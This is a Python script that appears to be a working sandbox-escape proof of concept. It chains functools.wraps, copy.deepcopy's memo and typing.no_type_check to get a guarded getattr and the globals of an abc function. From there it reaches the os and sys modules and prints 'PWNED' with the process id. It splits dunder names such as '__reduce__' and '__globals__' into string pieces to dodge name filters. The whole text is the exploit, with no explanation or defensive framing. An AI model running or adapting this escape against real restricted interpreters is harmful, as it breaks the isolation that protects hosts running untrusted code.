import functools, abc, typing, copy, operator

# the guarded getattr as a value (see 009): update_wrapper reached as wraps(x).func
box = {}
class W:
    def __setattr__(self, k, v):
        box[k] = v
target = (1).__add__
uw = functools.wraps(target).func
uw(W(), target, ("__red" + "uce__",), ())
g, _ = box["__red" + "uce__"]()

sink = []
launcher_fn = type(abc.ABC).register
outer = map(sink.append, map(g, [launcher_fn], ["__glo" + "bals__"]))
class RC:
    # typing.no_type_check evaluates `getattr(obj, '__module__', None) != arg.__module__`;
    # the comparison's position starts at "getattr(" with a literal second argument
    __ne__ = functools.partial(functools.reduce, operator.is_, outer)
R = RC()

class Q:
    pass
o = Q()
o.a = 1
memo = {}
copy.deepcopy(o, memo)          # keeps o's own __dict__ alive in memo[id(memo)]
d = None
for v in memo[id(memo)]:
    if type(v) is dict:
        d = v
d["__qual" + "name__"] = "Arg.x"
d["__na" + "me__"] = "x"
d["__mod" + "ule__"] = R

class MM(abc.ABCMeta):
    def __dir__(cls):
        return ["x"]
class Arg(metaclass=MM):
    pass
Arg.x = o
try:
    typing.no_type_check(Arg)
except Exception as e:
    print("after:", type(e).__name__, str(e)[:80])
G = sink[0]
print("PW" + "NED", type(G).__name__, G["o" + "s"].getpid(), len(G["s" + "ys"].modules))
